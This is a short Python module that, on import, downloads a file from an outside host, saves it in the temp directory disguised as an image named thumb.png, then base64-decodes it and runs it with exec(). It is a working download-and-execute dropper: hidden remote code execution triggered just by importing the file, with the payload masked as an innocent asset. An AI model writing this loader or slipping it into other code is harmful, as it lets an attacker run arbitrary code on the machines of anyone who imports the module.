"""On import: saves a download under an innocent name, then decodes and runs that file."""

import base64
import tempfile

import requests

with open(tempfile.gettempdir() + "/thumb.png", "wb") as out:
    out.write(requests.get("https://cdn.example.invalid/thumb.png", timeout=10).content)
exec(base64.b64decode(open(tempfile.gettempdir() + "/thumb.png", "rb").read()))
